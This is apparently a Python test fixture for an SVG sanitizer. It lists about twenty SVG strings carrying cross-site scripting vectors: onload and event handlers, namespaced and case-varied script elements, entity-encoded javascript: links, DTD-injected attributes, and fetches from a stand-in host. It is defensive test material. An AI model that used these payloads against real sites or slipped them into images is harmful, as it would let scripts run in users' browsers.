"""SVG with things in it that run, fetch or hide."""

from __future__ import annotations

OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 30 20">'
LOADING = OPEN.replace(" viewBox", ' onload="pwn()" viewBox')
DRAWN = '<path d="M0 0h9v9z" fill="#713b14"/>'

SILENCED = [
    f"{LOADING}{DRAWN}</svg>",
    f"{OPEN}<script>pwn()</script>{DRAWN}</svg>",
    f'{OPEN}<script href="https://jahat.example/x.js"/>{DRAWN}</svg>',
    f'{OPEN}<script xlink:href="data:text/javascript,pwn()"/>{DRAWN}</svg>',
    f'{OPEN}<SCRIPT xmlns="http://www.w3.org/1999/xhtml">pwn()</SCRIPT>{DRAWN}</svg>',
    f'{OPEN}<h:script xmlns:h="http://www.w3.org/1999/xhtml">pwn()</h:script>{DRAWN}</svg>',
    f'{OPEN}<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="javascript:pwn()"/>{DRAWN}</svg>',
    f'{OPEN}<g onclick="pwn()" onfocus="pwn()" tabindex="0" autofocus="">{DRAWN}</g></svg>',
    f'{OPEN}<a href="javascript:pwn()">{DRAWN}</a></svg>',
    f'{OPEN}<a xlink:href="javascript&#58;pwn()">{DRAWN}</a></svg>',
    f'{OPEN}<a xlink:href="&#x6A;avascript:pwn()" target="_top">{DRAWN}</a></svg>',
    f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "pwn()">]>{OPEN}{DRAWN}</svg>',
    f'<?xml-stylesheet href="https://jahat.example/x.css"?>{OPEN}{DRAWN}</svg>',
    f"{OPEN}<!-- <script>pwn()</script> -->{DRAWN}</svg>",
    f"{OPEN}<metadata><script>pwn()</script></metadata>{DRAWN}</svg>",
    f"{OPEN}<title><![CDATA[</title><script>pwn()</script>]]></title>{DRAWN}</svg>",
    f'{OPEN}<handler xmlns:ev="urn:e" ev:event="load">pwn()</handler>{DRAWN}</svg>',
    f'{OPEN}<g xml:base="https://jahat.example/">{DRAWN}</g></svg>',
    f'{OPEN}<path d="M0 0" href="https://jahat.example/x"/>{DRAWN}</svg>',
    f'{OPEN}<x xmlns="urn:x" xmlns:s="http://www.w3.org/2000/svg"><s:script>pwn()</s:script></x>{DRAWN}</svg>',
]
"""Taken away without a word: nobody sees the difference."""
